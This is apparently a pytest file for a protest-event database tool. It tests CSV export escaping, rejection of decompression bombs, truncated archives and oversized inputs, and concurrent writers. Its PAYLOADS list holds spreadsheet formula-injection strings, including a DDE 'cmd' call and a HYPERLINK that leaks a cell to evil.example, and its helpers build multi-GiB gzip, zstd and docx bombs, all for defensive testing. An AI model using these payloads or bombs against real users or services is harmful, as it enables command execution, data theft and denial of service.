"""Hostile inputs and writers: formula cells in CSV exports, files that would abort a batch or fill memory
(deep JSON, decompression bombs, truncated and corrupt archives, giant lines), and concurrent runs."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import threading
import time
import uuid
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
import zstandard
from fastapi.testclient import TestClient

from undeleted.app import ServeSettings, create_app
from undeleted.errors import BadInput
from undeleted.export.cells import spreadsheet_safe
from undeleted.ingest import read_all
from undeleted.models import Document, Event
from undeleted.store import Store

UNDELETED = str(Path(sys.executable).parent / "undeleted")
MiB = 1 << 20
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=cmd|' /C calc'!A0 residents protest",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
]
GOOD_REPORT = (
    "Hundreds of workers gathered outside the Foxconn plant in Zhengzhou on 23 November 2022 to protest "
    "unpaid bonuses; police detained several of them.\n"
)


def run_cli(*args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [UNDELETED, *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "COLUMNS": "200"},
    )


def formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not (cell[:1] in "+-" and is_number(cell))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# CSV formula injection


def hostile_events(store: Store) -> None:
    """One event per payload, with the payload as summary, place, actor name and cited source."""
    for number, payload in enumerate(PAYLOADS):
        doc = Document(
            text=f"Report {number}: {payload}", outlet=payload, published="2022-11-28", language="en"
        )
        event = Event.model_validate(
            {
                "type": "protest",
                "date_start": f"2022-11-{number + 1:02d}",
                "date_end": f"2022-11-{number + 1:02d}",
                "time_precision": "day",
                "summary": payload,
                "cited_sources": [payload],
                "location": {
                    "admin1": "Shanghai",
                    "adcode": "310104",
                    "geo_precision": "admin3",
                    "place": payload,
                    "lat": 31.2,
                    "lon": -121.4 if number == 0 else 121.4,
                },
                "actors": [{"name": payload, "kind": "residents", "role": "initiator"}],
            }
        )
        store.save(doc, [event])
    store.link()


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, str]]:
    """SQLite only, on purpose: the hostile text is escaped in the export files, after the store (the export
    queries run on both databases in test_store_query.py)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'events.db'}"
    with Store.open(url) as store:
        hostile_events(store)
        yield store, url


def test_spreadsheet_safe_follows_owasp() -> None:
    assert [spreadsheet_safe(payload)[:1] for payload in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert [spreadsheet_safe(value) for value in ("-3", "+86.5", "-1e3", 12, None, "residents", "")] == [
        "-3",
        "+86.5",
        "-1e3",
        12,
        None,
        "residents",
        "",
    ]


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_csv_exports_of_cli_and_api_have_no_formula_cells(hostile_store, tmp_path: Path, fmt: str) -> None:
    store, url = hostile_store
    output = tmp_path / f"events.{fmt}.csv"
    exported = run_cli("export", "--format", fmt, "-o", str(output), "--db", url)
    assert exported.returncode == 0, exported.stderr
    with TestClient(create_app(store, ServeSettings())) as client:
        response = client.get(f"/api/export.{fmt}")
    assert response.status_code == 200
    for body in (output.read_bytes().decode("utf-8-sig"), response.content.decode("utf-8-sig")):
        rows = list(csv.DictReader(io.StringIO(body, newline="")))
        assert len(rows) == len(PAYLOADS)
        cells = [cell for row in rows for cell in row.values() if cell]
        assert [cell for cell in cells if formula_like(cell)] == []
        assert (
            sum(cell.startswith("'=HYPERLINK(") for cell in cells) >= 2
        )  # the text is kept, behind the quote
        if fmt == "csv":
            assert {row["summary"] for row in rows} == {"'" + payload for payload in PAYLOADS}
            assert "-121.4" in {row["lon"] for row in rows}  # numbers stay numbers


def test_jsonl_export_keeps_the_text(hostile_store) -> None:
    store, _ = hostile_store
    with TestClient(create_app(store, ServeSettings())) as client:
        lines = client.get("/api/export.jsonl").text.splitlines()
    assert {json.loads(line)["summary"] for line in lines} == set(PAYLOADS)


# files that would abort a batch, fill memory or run for ever


def write_gzip_zeros(path: Path, total: int, byte: bytes = b"\0") -> Path:
    """`total` bytes of `byte`, gzip-compressed: one 64 MiB member written again and again (a valid gzip)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    member = compressor.compress(byte * (64 * MiB)) + compressor.flush()
    with path.open("wb") as out:
        for _ in range(total // (64 * MiB)):
            out.write(member)
    return path


def jsonl(*texts: str) -> bytes:
    return b"".join(json.dumps({"text": text}).encode() + b"\n" for text in texts)


def make_files(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    many = jsonl(*(f"Workers in Shenzhen went on strike, report number {n}." for n in range(3000)))
    packed = zstandard.ZstdCompressor().compress(many)
    files = {
        "deep": folder / "deep.jsonl",
        "zeros": write_gzip_zeros(folder / "zeros.jsonl.gz", 2048 * MiB),
        "newlines": write_gzip_zeros(folder / "newlines.jsonl.gz", 512 * MiB, b"\n"),
        "zst-zeros": folder / "zeros.jsonl.zst",
        "zst-cut-first": folder / "cut-first.jsonl.zst",
        "zst-cut-late": folder / "cut-late.jsonl.zst",
        "gz-cut": folder / "cut.jsonl.gz",
        "parquet": folder / "corrupt.parquet",
        "big-text": folder / "big.txt",
        "big-line": folder / "big-line.jsonl",
        "docx-bomb": folder / "bomb.docx",
    }
    files["deep"].write_bytes(b"[" * 100_000 + b"]" * 100_000 + b"\n")
    compressor = zstandard.ZstdCompressor().compressobj()
    files["zst-zeros"].write_bytes(
        b"".join(compressor.compress(b"\0" * MiB) for _ in range(256)) + compressor.flush()
    )
    files["zst-cut-first"].write_bytes(packed[:200])
    files["zst-cut-late"].write_bytes(packed[:-5])
    files["gz-cut"].write_bytes(zlib.compress(many, wbits=31)[:-20])
    files["parquet"].write_bytes(b"PAR1" + b"not parquet" * 1000 + b"PAR1")
    files["big-text"].write_bytes(b"x" * (50 * MiB))
    files["big-line"].write_bytes(
        jsonl("y" * (50 * MiB), "After the long line, residents protested in Wuhan.")
    )
    with (
        zipfile.ZipFile(files["docx-bomb"], "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w") as member,
    ):
        for _ in range(200):
            member.write(b"\0" * MiB)
    return files


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return make_files(tmp_path_factory.mktemp("hostile"))


EXPECTED = {
    "deep": "deep.jsonl:1: JSON nested too deeply",
    "zeros": "zeros.jsonl.gz: decompresses to over 100 times its compressed size",
    "newlines": "newlines.jsonl.gz: decompresses to over 100 times its compressed size",
    "zst-zeros": "zeros.jsonl.zst: decompresses to over 100 times its compressed size",
    "zst-cut-first": "cut-first.jsonl.zst: truncated zstd stream",
    "zst-cut-late": "cut-late.jsonl.zst: truncated zstd stream",
    "gz-cut": "cut.jsonl.gz: truncated compressed stream",
    "parquet": "corrupt.parquet: not a readable Parquet file",
    "big-text": "big.txt: 50 MiB, over the 16 MiB limit per document file",
    "big-line": "big-line.jsonl:1: line longer than the 16 MiB limit per line",
    "docx-bomb": "bomb.docx: unpacks to over 100 times its size",
}


@pytest.mark.parametrize("name", list(EXPECTED))
def test_hostile_file_is_named_once_with_its_limit(files: dict[str, Path], name: str) -> None:
    problems = [str(item) for item in read_all([files[name]]) if isinstance(item, BadInput)]
    assert len(problems) == 1 and EXPECTED[name] in problems[0], problems


def test_documents_before_a_truncation_or_a_long_line_are_kept(files: dict[str, Path]) -> None:
    late = [item for item in read_all([files["zst-cut-late"]]) if not isinstance(item, BadInput)]
    assert 1500 < len(late) < 3000  # all but the last block
    after = [item.text for item in read_all([files["big-line"]]) if not isinstance(item, BadInput)]
    assert after == ["After the long line, residents protested in Wuhan."]


def run_measured(*args: str) -> tuple[subprocess.CompletedProcess[str], int]:
    """The CLI's result and the peak resident memory (bytes) of the largest child process so far."""
    result = run_cli(*args)
    return result, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024


def stored_document_count(url: str) -> int:
    with Store.open(url) as store:
        return store.count_documents()


def test_batch_with_deep_json_and_a_2_gib_bomb_stores_the_good_report(
    files: dict[str, Path], tmp_path: Path
) -> None:
    good = tmp_path / "good.txt"
    good.write_text(GOOD_REPORT, encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'events.db'}"
    result, peak = run_measured(
        "run", str(good), str(files["deep"]), str(files["zeros"]), "--db", url, "--workers", "1"
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert EXPECTED["deep"] in result.stderr and EXPECTED["zeros"] in result.stderr
    assert stored_document_count(url) == 1
    assert peak < 1024 * MiB, f"peak RSS {peak / MiB:.0f} MiB"


def test_batch_of_every_hostile_file_names_each_once_without_traceback(
    files: dict[str, Path], tmp_path: Path
) -> None:
    good = tmp_path / "good.txt"
    good.write_text(GOOD_REPORT, encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'events.db'}"
    result, peak = run_measured(
        "run", str(good), *(str(path) for path in files.values()), "--db", url, "--workers", "1"
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    for expected in EXPECTED.values():
        assert result.stderr.count(expected) == 1, expected
    with Store.open(
        url
    ) as store:  # the good report, the documents before the cuts, the line after the long one
        assert store.count_documents() > 1500  # the cut archives hold the same reports
        assert store.count_documents(text="Wuhan") == 1
    assert peak < 1024 * MiB, f"peak RSS {peak / MiB:.0f} MiB"


# the same bounds in the Dask engine, in import-social, and around each document's extraction

SOCIAL_POSTS = Path(__file__).parent / "resources" / "social" / "generic_posts.csv"
EVERY_ENGINE = ("deep", "zeros", "zst-cut-first", "big-line")  # hostile files every reader is given


def not_utf8(folder: Path) -> Path:
    """A JSON-lines file whose first line is Latin-1 (not UTF-8) and whose second is a good report."""
    path = folder / "latin1.jsonl"
    path.write_bytes(
        b'{"text": "caf\xe9 workers protest in Wuhan"}\n'
        + jsonl("Residents in Chengdu protested against the lockdown on 5 May 2022.")
    )
    return path


def test_dask_engine_names_each_hostile_file_and_stores_the_rest(
    files: dict[str, Path], tmp_path: Path
) -> None:
    """Plain .jsonl is split into byte blocks read with run's line limit; a bad byte, a deep line, a bomb
    or a cut archive fails its file (or line) alone."""
    good = tmp_path / "good.txt"
    good.write_text(GOOD_REPORT, encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'events.db'}"
    hostile = [str(files[name]) for name in EVERY_ENGINE]
    result, peak = run_measured(
        "run", str(good), *hostile, str(not_utf8(tmp_path)), "--engine", "dask", "--workers", "1",
        "--db", url, "--parquet", str(tmp_path / "parquet"),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr + result.stdout
    for name in EVERY_ENGINE:
        assert result.stderr.count(EXPECTED[name]) == 1, (name, result.stderr[-3000:])
    assert result.stderr.count("latin1.jsonl:1: broken JSON line") == 1
    with Store.open(url) as store:  # the good report, the Chengdu line, the line after the long one
        assert store.count_documents() == 3
        assert store.count_documents(text="Chengdu") == store.count_documents(text="Wuhan") == 1
    assert peak < 1024 * MiB, f"peak RSS {peak / MiB:.0f} MiB"


def test_dask_blocks_read_each_line_once_whatever_the_cut(tmp_path: Path) -> None:
    """Blocks smaller than lines, cuts on and beside newlines: every report is read exactly once."""
    from undeleted.ingest.files import parse_json_line
    from undeleted.ingest.streams import read_json_line_range
    from undeleted.scale.dask_runner import line_ranges

    texts = [f"Report {n}: workers protested{' loudly' * (n % 7) * 5}." for n in range(100)]
    path = tmp_path / "lines.jsonl"
    path.write_bytes(jsonl(*texts).replace(b"\n", b"\n\n", 17))  # some blank lines too
    for blocksize in (7, 97, 1000, 4096, 10**9):
        read = [
            item.text
            for name, start, end in line_ranges([str(path)], blocksize)
            for item in read_json_line_range(name, start, end, parse_json_line)
        ]
        assert read == texts, blocksize


def test_import_social_names_each_hostile_file_and_stores_the_rest(
    files: dict[str, Path], tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'events.db'}"
    result, peak = run_measured(
        "import-social", str(SOCIAL_POSTS), *(str(files[name]) for name in EVERY_ENGINE), "--db", url
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr + result.stdout
    for name in EVERY_ENGINE:
        assert result.stderr.count(EXPECTED[name]) == 1, (name, result.stderr[-3000:])
    assert "1 posts (1 new)" in result.stdout
    assert stored_document_count(url) == 1
    assert peak < 1024 * MiB, f"peak RSS {peak / MiB:.0f} MiB"


def test_import_social_reads_compressed_exports_and_names_a_cut_one(tmp_path: Path) -> None:
    from undeleted.ingest.social import read_social

    rows = SOCIAL_POSTS.read_bytes()
    (tmp_path / "posts.csv.gz").write_bytes(zlib.compress(rows, wbits=31))
    (tmp_path / "cut.csv.zst").write_bytes(zstandard.ZstdCompressor().compress(rows * 50)[:-4])
    result = read_social([tmp_path / "posts.csv.gz", tmp_path / "cut.csv.zst"])
    assert [post.post_id for post in result.posts][:1] == ["g1"]
    assert [str(problem) for problem in result.problems] == [
        f"{tmp_path / 'cut.csv.zst'}: truncated zstd stream (the file ends inside a frame; "
        "an interrupted download or copy?)"
    ]


@pytest.fixture
def failing_extraction(monkeypatch: pytest.MonkeyPatch) -> str:
    """Extraction raises (as a bug would) on any text holding the returned marker."""
    import undeleted.pipeline

    marker = "PATHOLOGICAL"
    real = undeleted.pipeline.extract_events

    def extract(doc: Document, context: object) -> list[Event]:
        if marker in doc.text:
            raise IndexError("string index out of range")
        return real(doc, context)  # type: ignore[arg-type]

    monkeypatch.setattr(undeleted.pipeline, "extract_events", extract)
    return marker


def test_a_document_whose_extraction_raises_is_named_and_the_batch_stored(
    failing_extraction: str, tmp_path: Path
) -> None:
    from undeleted.extract import ExtractContext
    from undeleted.pipeline import run

    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "good.txt").write_text(GOOD_REPORT, encoding="utf-8")
    bad = reports / "bad.txt"
    bad.write_text(f"Residents protested in Wuhan. {failing_extraction}", encoding="utf-8")
    doc_id = next(iter(read_all([bad]))).doc_id  # type: ignore[union-attr]
    with Store.open(f"sqlite:///{tmp_path / 'events.db'}") as store:
        report = run([reports], store, ExtractContext.load())
        assert store.count_documents() == 1 and store.count_documents(text="Foxconn") == 1
    assert [str(problem) for problem in report.bad] == [
        f"{bad}: document {doc_id[:12]}: extraction failed (IndexError: string index out of range); "
        "not stored, so a later run tries it again"
    ]


def test_dask_and_import_social_name_a_document_whose_extraction_raises(
    failing_extraction: str, tmp_path: Path
) -> None:
    from undeleted.censorship_pipeline import import_social
    from undeleted.extract import ExtractContext
    from undeleted.pipeline import try_extract
    from undeleted.scale.dask_runner import extract_partition

    context = ExtractContext.load()
    bad = Document(text=f"Residents protested in Wuhan. {failing_extraction}", language="en")
    good = Document(text=GOOD_REPORT, language="en")
    summary = extract_partition([("a.jsonl", bad), ("a.jsonl", good)], str(tmp_path / "parquet"))[0]
    assert summary["documents"] == 1
    assert summary["bad"] == [
        f"a.jsonl: document {bad.doc_id[:12]}: extraction failed (IndexError: string index out of range); "
        "not stored, so a later run tries it again"
    ]
    posts = tmp_path / "posts.csv"
    posts.write_text(
        "post_id,text,published\n"
        f'p1,"Residents protested in Wuhan. {failing_extraction}",2022-11-27\n'
        f'p2,"{GOOD_REPORT.strip()}",2022-11-24\n',
        encoding="utf-8",
    )
    with Store.open(f"sqlite:///{tmp_path / 'events.db'}") as store:
        report = import_social([posts], store, lambda doc: try_extract(doc, context))
        assert store.count_documents() == 1 and store.count_documents(text="Foxconn") == 1
    assert (report.posts, report.new_posts) == (2, 2)  # the post row is kept; its document is tried again
    [problem] = map(str, report.problems)
    assert problem.startswith(f"{posts}:2: post p1: document ")
    assert problem.endswith(
        ": extraction failed (IndexError: string index out of range); not stored, so a later run tries it again"
    )


# concurrent writers


def split_gold(gold: Path, folder: Path) -> tuple[Path, Path]:
    """Odd and even lines of the gold reports: reports of one event end up in both files."""
    lines = gold.read_text(encoding="utf-8").splitlines(keepends=True)
    first, second = folder / "a.jsonl", folder / "b.jsonl"
    first.write_text("".join(lines[0::2]), encoding="utf-8")
    second.write_text("".join(lines[1::2]), encoding="utf-8")
    return first, second


def events_of(url: str) -> list[tuple[object, ...]]:
    """Each active event as (type, dates, its mention ids), sorted; every mention must be linked."""
    engine = sa.create_engine(url)
    with engine.connect() as connection:
        rows = connection.execute(
            sa.text(
                "SELECT e.type, e.date_start, e.date_end, m.mention_id FROM events e "
                "JOIN mentions m ON m.event_id = e.event_id WHERE e.status = 'active'"
            )
        ).all()
        unlinked = connection.execute(
            sa.text("SELECT count(*) FROM mentions WHERE event_id IS NULL")
        ).scalar()
    engine.dispose()
    assert unlinked == 0
    grouped: dict[tuple[object, ...], list[str]] = {}
    for kind, start, end, mention in rows:
        grouped.setdefault((kind, str(start), str(end)), []).append(mention)
    return sorted((*key, tuple(sorted(mentions))) for key, mentions in grouped.items())


def run_both(first: Path, second: Path, url: str) -> list[subprocess.CompletedProcess[str]]:
    results: list[subprocess.CompletedProcess[str]] = []
    threads = [
        threading.Thread(
            target=lambda path=path: results.append(run_cli("run", str(path), "--db", url, "--workers", "1"))
        )
        for path in (first, second)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_two_runs_at_once_on_a_new_database_equal_one_after_the_other(
    backend: str, gold_dev_path: Path, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """Two trials on SQLite, one on PostgreSQL here (bench/concurrent_runs.py runs ten)."""

    def new_url(name: str) -> str:
        if backend == "sqlite":
            return f"sqlite:///{tmp_path / name}"
        return (
            str(request.getfixturevalue("fresh_postgresql_url"))
            if name == "sequential"
            else fresh_pg(request)
        )

    first, second = split_gold(gold_dev_path, tmp_path)
    sequential = new_url("sequential")
    for path in (first, second):
        assert run_cli("run", str(path), "--db", sequential, "--workers", "1").returncode == 0
    expected = events_of(sequential)
    assert len(expected) > 50
    for trial in range(2 if backend == "sqlite" else 1):
        url = new_url(f"parallel-{trial}.db")
        results = run_both(first, second, url)
        assert [result.returncode for result in results] == [0, 0], [
            result.stderr[-2000:] for result in results
        ]
        assert events_of(url) == expected


def fresh_pg(request: pytest.FixtureRequest) -> str:
    """Another empty database on the test PostgreSQL server, dropped after the test."""
    admin_url = str(request.getfixturevalue("postgresql_url"))
    name = f"hostile_{uuid.uuid4().hex[:12]}"
    admin = sa.create_engine(admin_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as connection:
        connection.execute(sa.text(f'CREATE DATABASE "{name}"'))

    def drop() -> None:
        with admin.connect() as connection:
            connection.execute(sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()

    request.addfinalizer(drop)
    return sa.engine.make_url(admin_url).set(database=name).render_as_string(hide_password=False)


def test_a_writer_that_must_wait_says_so_then_stores(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'events.db'}"  # SQLite only: the other writer holds SQLite's write lock
    Store.open(url).close()
    good = tmp_path / "good.txt"
    good.write_text(GOOD_REPORT, encoding="utf-8")
    holder = sa.create_engine(url)
    with holder.connect() as connection:
        connection.exec_driver_sql("BEGIN IMMEDIATE")  # another writer holds the database
        process = subprocess.Popen(
            [UNDELETED, "run", str(good), "--db", url, "--workers", "1"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        said = read_until(process, "waiting", seconds=120)
        connection.exec_driver_sql("COMMIT")
    holder.dispose()
    _out, err = process.communicate(timeout=300)
    assert "another process is writing to this database; waiting" in said + err
    assert process.returncode == 0, err
    assert stored_document_count(url) == 1


def read_until(process: subprocess.Popen[str], word: str, seconds: float) -> str:
    """Stderr lines of `process` until one holds `word` (or the time is up, or it ends)."""
    seen: list[str] = []
    found = threading.Event()

    def read() -> None:
        assert process.stderr is not None
        for line in process.stderr:
            seen.append(line)
            if word in line:
                found.set()
                return

    threading.Thread(target=read, daemon=True).start()
    found.wait(seconds)
    return "".join(seen)


# the API under concurrent clients


def test_serve_with_two_workers_answers_concurrent_clients(hostile_store) -> None:
    """`serve --workers 2` (two processes on one port) answers 20 clients at once, every page whole."""
    import socket
    from concurrent.futures import ThreadPoolExecutor

    import httpx

    _, url = hostile_store
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen(
        [UNDELETED, "serve", "--db", url, "--port", str(port), "--workers", "2"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                if httpx.get(f"{base}/api/events?limit=1", timeout=5).status_code == 200:
                    break
            except httpx.TransportError:
                time.sleep(0.2)
        with ThreadPoolExecutor(20) as pool:
            pages = list(
                pool.map(
                    lambda n: httpx.get(f"{base}/api/events?limit=50&offset={n % 3}", timeout=30), range(100)
                )
            )
    finally:
        server.terminate()
        server.wait(timeout=30)
    assert [page.status_code for page in pages] == [200] * 100
    assert {page.json()["total"] for page in pages} == {len(PAYLOADS)}
